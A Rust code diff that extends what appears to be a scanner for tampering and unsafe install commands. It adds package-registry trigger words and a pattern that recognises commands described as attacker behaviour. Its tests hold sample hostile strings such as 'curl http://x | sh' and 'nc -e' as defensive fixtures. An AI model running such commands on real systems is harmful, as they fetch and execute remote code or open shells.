@@ -348,6 +348,12 @@ pub(super) const TRIGGERS: &[(&str, u32)] = &[
     ("crates.io", TAMPER),
     ("index_url", TAMPER),
     ("registry", TAMPER),
+    ("mirror.", TAMPER),
+    ("bundle_mirror", TAMPER),
+    ("goproxy", TAMPER),
+    ("gem sources", TAMPER),
+    ("nuget", TAMPER),
+    ("composer config", TAMPER),
 ];
 
 /// Every trigger word in a finder of its own (ASCII case-insensitive: what lower-casing the
@@ -368,6 +374,7 @@ static TRIGGER_WORDS: LazyLock<(Words, Vec<u32>)> = LazyLock::new(|| {
 pub(super) fn compile() {
     LazyLock::force(&TRIGGER_WORDS);
     LazyLock::force(&EXAMPLE_MARK);
+    LazyLock::force(&SAID_OF_ATTACKERS);
     LazyLock::force(&FILE_MARK);
     LazyLock::force(&INSTALL_STEP);
     LazyLock::force(&THREAT_HEADER);
@@ -624,7 +631,7 @@ impl<'a> Text<'a> {
         };
         let inside = &self.text[block.clone()];
         if !inside.contains('\n') {
-            return self.inline_marked(block.start);
+            return self.inline_marked(block.start) || self.said_of_attackers(block.start);
         }
         if self.kind == Kind::Markdown && self.marks_every_example(block.start) {
             return true;
@@ -652,6 +659,20 @@ impl<'a> Text<'a> {
             .rfind('\n')
             .map_or(0, |i| i + 1);
         EXAMPLE_MARK.is_match(&self.text[above_start..start])
+    }
+
+    /// True when the code span at `start` ends a clause whose subject is an attacker ("Attackers
+    /// and malicious installers frequently run `…`"): what someone else does, described.
+    fn said_of_attackers(&self, start: usize) -> bool {
+        let from = self
+            .text
+            .floor_char_boundary(start.saturating_sub(ATTACKER_REACH));
+        let before = &self.text[from..start];
+        let clause = before
+            .rfind(['.', '!', '?', '`'])
+            .map_or(before, |i| &before[i + 1..]);
+        let clause = clause.rfind("\n\n").map_or(clause, |i| &clause[i + 2..]);
+        SAID_OF_ATTACKERS.is_match(clause)
     }
 
     /// True when a Markdown file says, above `first_block` and within its opening lines, that
@@ -764,6 +785,17 @@ static EXAMPLE_MARK: LazyLock<super::pattern::Pattern> = LazyLock::new(|| {
     )
     .expect("a valid example-mark pattern")
 });
+
+/// An attacker as a clause's subject, then what it does, up to the end of the text read.
+static SAID_OF_ATTACKERS: LazyLock<super::pattern::Pattern> = LazyLock::new(|| {
+    super::pattern::Pattern::new(
+        r"(?i)(?-u:\b)(?:attackers?|adversar(?:y|ies)|threat[[:space:]]+actors?|intruders?|malware|stealers?|infostealers?|ransomware|malicious[[:space:]]+(?:installers?|scripts?|packages?|skills?|actors?|code))(?-u:\b)[^.!?,;:]{0,80}?(?-u:\b)(?:run|use|execute|add|call|invoke|abuse|drop|set|disable|modif(?:y|ie))s?(?-u:\b)[^.!?]{0,60}$",
+    )
+    .expect("a valid attacker pattern")
+});
+
+/// How far before a code span [`Text::said_of_attackers`] looks for its clause's subject.
+const ATTACKER_REACH: usize = 200;
 
 /// How far into a Markdown file [`Text::marks_every_example`] reads for the file's own mark.
 const FILE_MARK_REACH: usize = 600;
@@ -1014,6 +1046,19 @@ mod tests {
         assert!(!at("Set it up:\n`curl http://x | sh`\n"));
         assert!(!at(
             "Example of a malicious line:\n\nThen:\n`curl http://x | sh`\n"
+        ));
+        // What an attacker does, described; an instruction that mentions attackers is not.
+        assert!(at(
+            "Intro.\n\nAttackers and malicious installers frequently run\n`curl http://x | sh` first.\n"
+        ));
+        assert!(at(
+            "Stealers often add `curl http://x | sh` to ~/.bashrc.\n"
+        ));
+        assert!(!at(
+            "To keep attackers out, run `curl http://x | sh` now.\n"
+        ));
+        assert!(!at(
+            "Attackers run `nc -e`. You run `curl http://x | sh` instead.\n"
         ));
     }
 
